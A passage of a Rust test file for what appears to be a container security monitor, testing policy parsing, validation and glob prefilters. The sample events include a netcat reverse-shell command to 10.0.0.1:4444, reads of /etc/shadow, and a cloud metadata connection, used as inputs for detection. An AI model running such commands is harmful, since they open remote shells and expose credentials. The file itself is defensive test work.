    let text = format!("apiVersion: lancet.dev/v1alpha1\nkind: Policy\nspec: {}", "{a: ".repeat(16_000));
    let t = std::time::Instant::now();
    let errs = parse_policies(&text, "deep.yaml").unwrap_err();
    assert!(t.elapsed() < std::time::Duration::from_millis(500), "{:?}", t.elapsed());
    assert_eq!(errs.len(), 1);
    assert_eq!((errs[0].line, errs[0].column), (3, 7 + 4 * 128));
    assert!(errs[0].to_string().starts_with("deep.yaml:3:519: nested more than 128 levels deep"), "{}", errs[0]);
}

// ---------- property tests: policy files are outside data ----------

mod props {
    use super::*;
    use lancet_testkit::mutate::{apply, edits, yamlish};
    use proptest::prelude::*;

    fn check_errors(errors: &[PolicyError], file: &str, text: &str) -> Result<(), TestCaseError> {
        prop_assert!(!errors.is_empty());
        let lines = text.lines().count() + 1;
        for e in errors {
            prop_assert_eq!(&e.file, file);
            let shown = e.to_string();
            prop_assert!(shown.starts_with(&format!("{file}:")), "{}", shown);
            // Located errors point into the text.
            prop_assert!(e.line <= lines, "line {} of {}: {}", e.line, lines, shown);
            if e.line > 0 {
                prop_assert!(e.column >= 1, "{}", shown);
                prop_assert!(shown.starts_with(&format!("{file}:{}:{}: ", e.line, e.column)), "{}", shown);
            }
        }
        Ok(())
    }

    fn sample_events() -> Vec<Event> {
        vec![
            exec("/bin/sh", &["sh", "-c", "nc -e /bin/sh 10.0.0.1 4444"]),
            file(FileOp::Open, "/etc/shadow"),
            file(FileOp::Create, "/usr/bin/x"),
            rename("/tmp/a", "/etc/passwd"),
            connect("169.254.169.254", 80),
            connect("10.0.0.1", 3333),
            net(NetOp::Listen, "0.0.0.0", 0, 4444),
        ]
    }

    /// Parsed policies compile (parse_policies validates what compiling
    /// needs), evaluate without panicking, and write back to YAML that
    /// parses to the same policies.
    fn check_accepted(policies: Vec<Policy>) -> Result<(), TestCaseError> {
        let text: String = policies.iter().map(|p| format!("---\n{}", serde_norway::to_string(p).unwrap())).collect();
        let again = parse_policies(&text, "again.yaml").unwrap_or_else(|e| panic!("{e:?}\n{text}"));
        prop_assert_eq!(&again, &policies);
        let set = PolicySet::new(policies, false);
        prop_assert!(set.is_ok(), "parsed but not compiled: {:?}", set.err());
        let set = set.unwrap();
        let c = container();
        let mut out = Vec::new();
        for ev in sample_events() {
            for deviates in [false, true] {
                out.clear();
                set.evaluate(&ev, Some(&c), deviates, &mut out);
                set.evaluate(&ev, None, deviates, &mut out);
            }
        }
        Ok(())
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]

        /// The built-in rules changed at random: policies that compile, or
        /// errors that say where.
        #[test]
        fn mutated_default_rules_are_policies_or_located_errors(e in edits(6)) {
            let text = apply(DEFAULT_RULES_YAML, &e);
            match parse_policies(&text, "m.yaml") {
                Ok(p) => check_accepted(p)?,
                Err(errors) => check_errors(&errors, "m.yaml", &text)?,
            }
        }

        #[test]
        fn arbitrary_text_is_policies_or_located_errors(text in yamlish()) {
            match parse_policies(&text, "x.yaml") {
                Ok(p) => check_accepted(p)?,
                Err(errors) => check_errors(&errors, "x.yaml", &text)?,
            }
        }
    }

    #[test]
    fn the_default_rules_round_trip() {
        let p = parse_policies(DEFAULT_RULES_YAML, DEFAULT_RULES_FILE).unwrap();
        assert!(!p.is_empty());
        check_accepted(p).unwrap();
    }

    #[test]
    fn huge_values_and_aliases_are_errors() {
        let esc = |within: &str| format!("      severity: high\n      escalate: {{after: 3, within: {within}, to: kill-process}}\n");
        // An escalation that reads, to change.
        let good = DEFAULT_RULES_YAML.replacen("      severity: high\n", &esc("1m"), 1);
        assert_eq!(parse_policies(&good, "g.yaml").unwrap()[0].spec.rules.iter().filter(|r| r.escalate.is_some()).count(), 1);
        for text in [
            good.replacen("after: 3", "after: 99999999999999999999999", 1),
            good.replacen("after: 3", "after: -3", 1),
            good.replacen("within: 1m", "within: 99999999999999999999999999s", 1),
            good.replacen("within: 1m", "within: 1e400", 1),
            DEFAULT_RULES_YAML.replacen("ports: [3333,", "ports: [99999999999999,", 1),
            DEFAULT_RULES_YAML.replacen("ports: [3333,", "ports: [-1,", 1),
            DEFAULT_RULES_YAML.replacen("severity: medium", "severity: &s medium\n      tags: *s", 1),
        ] {
            assert_ne!(text, DEFAULT_RULES_YAML);
            let errors = parse_policies(&text, "h.yaml").unwrap_err();
            assert!(errors.iter().all(|e| e.line > 0 && e.column > 0), "{errors:?}");
        }
    }
}

#[test]
fn writable_directories_by_policy() {
    let text = "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata:\n  name: web-writes\nspec:\n  selector: {images: [\"localhost/web:*\"]}\n  writable:\n    - /etc/nginx/conf.d\n    - /srv/cache\n";
    let set = PolicySet::new(parse_policies(text, "w.yaml").unwrap(), true).unwrap();
    let web = container();
    assert_eq!(set.writable_for(&web).collect::<Vec<_>>(), ["/etc/nginx/conf.d", "/srv/cache"]);
    let other = ContainerInfo { image: "localhost/db:1".into(), image_digest: "sha256:1".into(), ..container() };
    assert_eq!(set.writable_for(&other).count(), 0);
    // A relative path, `..` or / itself is an error placed on its line.
    for (bad, line) in [("etc/x", 7), ("/srv/../etc", 7), ("/", 7)] {
        let text = format!("apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata:\n  name: w\nspec:\n  writable:\n    - {bad}\n");
        let errs = parse_policies(&text, "w.yaml").unwrap_err();
        assert_eq!(errs.len(), 1, "{bad}: {errs:?}");
        assert_eq!(errs[0].line, line, "{bad}: {}", errs[0]);
        assert!(errs[0].to_string().contains("writable directory"), "{}", errs[0]);
    }
    // A policy needs rules or writable directories.
    let empty = "apiVersion: lancet.dev/v1alpha1\nkind: Policy\nmetadata:\n  name: e\nspec: {}\n";
    assert!(parse_policies(empty, "e.yaml").unwrap_err()[0].to_string().contains("at least one rule or writable"));
}

#[test]
fn a_rules_path_anchors_are_the_literal_start_or_end_of_each_glob() {
    let list = |l: &[&str]| l.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let got = compile::literal_anchors(&list(&["/etc/**", "/usr/bin/[a-z]*", "/etc/shadow", "/a\\*b"])).unwrap();
    assert_eq!(got.prefixes.iter().map(|p| &**p).collect::<Vec<_>>(), ["/etc/", "/usr/bin/", "/etc/shadow", "/a"]);
    assert!(got.suffixes.is_empty());
    assert!(got.may_match("/etc/passwd") && got.may_match("/usr/bin/ls") && got.may_match("/a"));
    assert!(!got.may_match("/tmp/x") && !got.may_match("/") && !got.may_match("") && !got.may_match("/usr/lib/x"));
    // A one-byte prefix: the second byte says nothing.
    let root = compile::literal_anchors(&list(&["/*/x", "/etc/**"])).unwrap();
    assert!(root.may_match("/tmp/x") && root.may_match("/"));
    // A glob that starts with a wildcard is anchored by its end.
    let logs = compile::literal_anchors(&list(&["/var/log/**", "*/.bash_history", "?x[ab]yz"])).unwrap();
    assert_eq!(logs.suffixes.iter().map(|p| &**p).collect::<Vec<_>>(), ["/.bash_history", "yz"]);
    assert!(logs.may_match("/var/log/syslog") && logs.may_match("/root/.bash_history") && logs.may_match("/xxayz"));
    assert!(!logs.may_match("/tmp/f1") && !logs.may_match("/root/.bash_history.bak"));
    // Neither a literal start nor end: no prefilter at all.
    assert!(compile::literal_anchors(&list(&["/var/log/**", "*"])).is_none());
    assert!(compile::literal_anchors(&list(&["*/{a,b}"])).is_none());
    assert!(compile::literal_anchors(&[]).is_none());
}

proptest::proptest! {
    /// The prefilter never drops a path the glob matches.
    #[test]
    fn every_path_a_glob_matches_has_its_literal_anchor(
        g in "(/[ab.]{1,2}|/\\*|/\\*\\*|\\?|/\\[ab\\]|/\\{a,b\\}){1,4}",
        p in "(/[ab.]{0,2}){1,5}",
    ) {
        let glob = super::glob(&g).unwrap().compile_matcher();
        let pre = compile::literal_anchors(std::slice::from_ref(&g));
        if glob.is_match(&p) {
            proptest::prop_assert!(pre.as_ref().is_none_or(|pre| pre.may_match(&p)), "{g} matches {p} but its anchors {pre:?} do not");
        }
    }
}
